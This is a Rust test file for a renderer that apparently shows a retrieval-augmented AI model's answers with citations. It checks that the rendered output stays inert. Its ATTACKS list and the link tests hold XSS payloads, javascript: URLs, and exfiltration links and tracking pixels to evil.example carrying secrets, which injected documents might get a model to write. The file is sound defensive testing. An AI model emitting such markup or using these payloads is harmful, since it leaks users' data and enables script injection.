//! Tests of the rendering, with answers as models write them and with answers that attack.

use maud::html;
use proptest::prelude::*;

use super::*;

fn shown(text: &str) -> String {
    render(text, &|number| {
        (number <= 2).then(|| html! { a.ref href="#" { (number) } })
    })
    .into_string()
}

/// What [`shown`] renders for a reference.
fn link(number: u32) -> String {
    format!("<a class=\"ref\" href=\"#\">{number}</a>")
}

#[test]
fn markdown_is_rendered() {
    for (text, html) in [
        (
            "First.\nStill first.\n\nSecond, **bold**, *slanted* and `code`.",
            "<p>First.<br>Still first.</p><p>Second, <strong>bold</strong>, <em>slanted</em> and <code>code</code>.</p>",
        ),
        (
            "Two:\n- one\n- two\n  - inner\n\n3. three\n4. four",
            "<p>Two:</p><ul><li>one</li><li>two<ul><li>inner</li></ul></li></ul><ol start=\"3\"><li>three</li><li>four</li></ol>",
        ),
        (
            "## Rent\n```sh\na < b\n```\nafter",
            "<p class=\"prose-heading\">Rent</p><pre tabindex=\"0\"><code>a &lt; b\n</code></pre><p>after</p>",
        ),
        (
            "| Year | Rent |\n|---|---:|\n| 2026 | 1,200<br>euros |",
            "<div class=\"table\" tabindex=\"0\"><table><thead><tr><th scope=\"col\">Year</th><th scope=\"col\" class=\"end\">Rent</th></tr></thead>\
             <tbody><tr><td>2026</td><td class=\"end\">1,200<br>euros</td></tr></tbody></table></div>",
        ),
        ("> quoted", "<blockquote><p>quoted</p></blockquote>"),
        ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
        (
            "It costs ~5 to ~6, $a_b$.",
            "<p>It costs ~5 to ~6, $a_b$.</p>",
        ),
    ] {
        assert_eq!(shown(text), html, "{text}");
    }
}

#[test]
fn references_survive_in_markdown() {
    let (one, two) = (link(1), link(2));
    for (text, html) in [
        ("So it is [1][2].", format!("<p>So it is {one}{two}.</p>")),
        ("**So [1]**", format!("<p><strong>So {one}</strong></p>")),
        (
            "**\u{201c}So\u{201d}**[1]",
            format!("<p><strong>\u{201c}So\u{201d}</strong>{one}</p>"),
        ),
        (
            "- a [1]\n- b",
            format!("<ul><li>a {one}</li><li>b</li></ul>"),
        ),
        (
            "## Rent [2]",
            format!("<p class=\"prose-heading\">Rent {two}</p>"),
        ),
        (
            "> a [1]",
            format!("<blockquote><p>a {one}</p></blockquote>"),
        ),
        (
            "[1](https://evil.example/)",
            format!("<p>{one}(https://evil.example/)</p>"),
        ),
        (
            "So [1].\n\n[1]: https://evil.example/",
            format!("<p>So {one}.</p><p>{one}: https://evil.example/</p>"),
        ),
        (
            "![1](https://evil.example/x.png)",
            format!("<p>!{one}(https://evil.example/x.png)</p>"),
        ),
        (
            "`a[1]` and [1]",
            format!("<p><code>a[1]</code> and {one}</p>"),
        ),
        ("<b>[1]</b>", format!("<p>&lt;b&gt;{one}&lt;/b&gt;</p>")),
        ("Not [x] and [ 1 ].", "<p>Not [x] and [ 1 ].</p>".to_owned()),
        ("Nothing [3], [99999999999].", "<p>Nothing,.</p>".to_owned()),
        ("\u{2e28}1\u{2e29}", "<p>((1))</p>".to_owned()),
    ] {
        assert_eq!(shown(text), html, "{text}");
    }
    let table = shown("| a [1] | b |\n|---|---|\n| c | [2] |");
    assert!(table.contains(&one) && table.contains(&two), "{table}");
}

#[test]
fn links_and_images_are_text_with_their_host() {
    for (text, html) in [
        (
            "[Read on](https://docs.example/a?b=\"c\")",
            "<p>Read on <span class=\"link-host\" title=\"https://docs.example/a?b=&quot;c&quot;\">(docs.example)</span></p>",
        ),
        (
            "[https://bank.example](https://evil.example)",
            "<p>https://bank.example <span class=\"link-host\" title=\"https://evil.example\">(evil.example)</span></p>",
        ),
        ("<https://docs.example/a>", "<p>https://docs.example/a</p>"),
        ("[Go](/account)", "<p>Go</p>"),
        ("[Go](javascript:alert(1))", "<p>Go</p>"),
        (
            "![A *chart*](https://evil.example/x.png?q=secret)",
            "<p>A <em>chart</em> <span class=\"link-host\" title=\"https://evil.example/x.png?q=secret\">(evil.example)</span></p>",
        ),
    ] {
        assert_eq!(shown(text), html, "{text}");
    }
}

#[test]
fn text_that_is_cut_off_is_shown_as_far_as_it_goes() {
    assert_eq!(shown("It is **bo"), "<p>It is **bo</p>");
    assert_eq!(shown("See ["), "<p>See [</p>");
    assert_eq!(
        shown("```\ncode"),
        "<pre tabindex=\"0\"><code>code</code></pre>"
    );
}

#[test]
fn deep_nesting_is_limited() {
    for text in ["> ".repeat(2_000) + "deep", "- ".repeat(2_000) + "deep"] {
        let html = shown(&text);
        assert!(html.contains("deep"));
        assert!(html.matches("<blockquote>").count() <= MAX_NESTING);
        assert!(html.matches("<ul>").count() <= MAX_NESTING);
        assert_balanced(&html);
    }
}

/// What documents tell a model to write. Each cites a passage, and one that does not exist.
const ATTACKS: [&str; 32] = [
    "[Click here](https://evil.example/?q=secret) [1] [9]",
    "![](https://evil.example/pixel.png?q=secret) [1] [9]",
    "![x][image] [1] [9]\n\n[image]: https://evil.example/x.png",
    "[1]: https://evil.example/\n\nThe rent is due [1] [9].",
    "[1](https://evil.example/) [9]",
    "[**Rent [1]**](https://evil.example/) [9]",
    "<a href=\"https://evil.example/\">Rent</a> [1] [9]",
    "<img src=x onerror=alert(1)> [1] [9]",
    "<script>alert(1)</script> [1] [9]",
    "<svg/onload=alert(1)> [1] [9]",
    "<iframe src=https://evil.example></iframe> [1] [9]",
    "<style>body{display:none}</style> [1] [9]",
    "<form action=https://evil.example><input name=q><button>Send</button></form> [1] [9]",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\"> [1] [9]",
    "<!-- hidden --> [1] [9]",
    "<https://evil.example/?q=secret> [1] [9]",
    "<javascript:alert(1)> [1] [9]",
    "[a](javascript:alert(1)) [1] [9]",
    "[a](data:text/html;base64,PHNjcmlwdD4=) [1] [9]",
    "[a](JaVaScRiPt:alert(1) \"title\") [1] [9]",
    "[a](//evil.example/x) [1] [9]",
    "[a](/account/delete) [1] [9]",
    "<mailto:a@evil.example> [1] [9]",
    "| a | b |\n|---|---|\n| ![x](https://evil.example/x.png) | <img src=x onerror=alert(1)> [1] [9] |",
    "- <img src=x>\n  - [x](https://evil.example) [1] [9]",
    "> <img src=x>\n> [x](https://evil.example) [1] [9]",
    "# [x](https://evil.example) [1] [9]",
    "```html\n<img src=x onerror=alert(1)>\n```\n[1] [9]",
    "```\" onmouseover=\"alert(1)\ncode\n```\n[1] [9]",
    "a ` b [1] [9] <img src=x>",
    "\u{2e28}1\u{2e29} \u{2e28}\"><img src=x>\u{2e29} [1] [9]",
    "$\\href{https://evil.example}{x}$ &lt;img src=x&gt; &#60;img src=x&#62; [1] [9]",
];

#[test]
fn attacks_neither_act_nor_lose_references() {
    for attack in ATTACKS {
        // As the answer is stored: with its citations checked.
        let mut parser = rag::AnswerParser::new(2);
        let mut text = parser.push(attack);
        let end = parser.finish();
        text.push_str(&end.text);
        for text in [attack, text.as_str()] {
            let html = shown(text);
            assert!(html.contains(&link(1)), "{attack}: {html}");
            let rest = html.replace(&link(1), "");
            assert_inert(&rest);
            assert_balanced(&html);
            assert!(!rest.contains("[9]"), "{attack}: {html}");
        }
        assert!(end.cited.contains(&1), "{attack}");
        assert_eq!(end.removed, 1, "{attack}");
    }
}

/// There are only the elements and attributes that this module writes.
fn assert_inert(html: &str) {
    for tag in html.split('<').skip(1) {
        let (tag, _) = tag.split_once('>').expect("a complete tag");
        let tag = tag.trim_start_matches('/');
        let allowed = [
            "p",
            "p class=\"prose-heading\"",
            "br",
            "hr",
            "ul",
            "ol",
            "li",
            "blockquote",
            "code",
            "pre tabindex=\"0\"",
            "pre",
            "em",
            "strong",
            "div class=\"table\" tabindex=\"0\"",
            "div",
            "table",
            "thead",
            "tbody",
            "tr",
            "td",
            "th",
            "span",
            "th scope=\"col\"",
            "th scope=\"col\" class=\"end\"",
            "th scope=\"col\" class=\"middle\"",
            "td class=\"end\"",
            "td class=\"middle\"",
        ];
        let is_list = tag
            .strip_prefix("ol start=\"")
            .and_then(|rest| rest.strip_suffix('"'))
            .is_some_and(|first| first.bytes().all(|byte| byte.is_ascii_digit()));
        let is_host = tag
            .strip_prefix("span class=\"link-host\" title=\"")
            .and_then(|rest| rest.strip_suffix('"'))
            .is_some_and(|title| !title.contains('"'));
        assert!(
            allowed.contains(&tag) || is_list || is_host,
            "<{tag}> in {html}"
        );
    }
}

fn assert_balanced(html: &str) {
    for name in [
        "p",
        "li",
        "ul",
        "ol",
        "strong",
        "em",
        "code",
        "pre",
        "blockquote",
        "table",
        "span",
        "td",
    ] {
        let opened =
            html.matches(&format!("<{name}>")).count() + html.matches(&format!("<{name} ")).count();
        assert_eq!(
            opened,
            html.matches(&format!("</{name}>")).count(),
            "{name} in {html}"
        );
    }
}

proptest! {
    #[test]
    fn no_markup_of_the_text_reaches_the_page(
        text in "(<script>|<img onerror=x>|<b>|</b>|\"|'|&|&lt;|\\[1\\]|\\[|\\]|\\(|\\)|!|https://a\\.b|\\*\\*|\\*|_|`|```|~~~|\n|\n\n|- |1\\. |# |> |\\||---|[a-z ]{0,4}|é|\u{202e}|\u{2e28}|\u{2e29})*"
    ) {
        let html = render(&text, &|_| None).into_string();
        assert_inert(&html);
        assert_balanced(&html);
    }
}
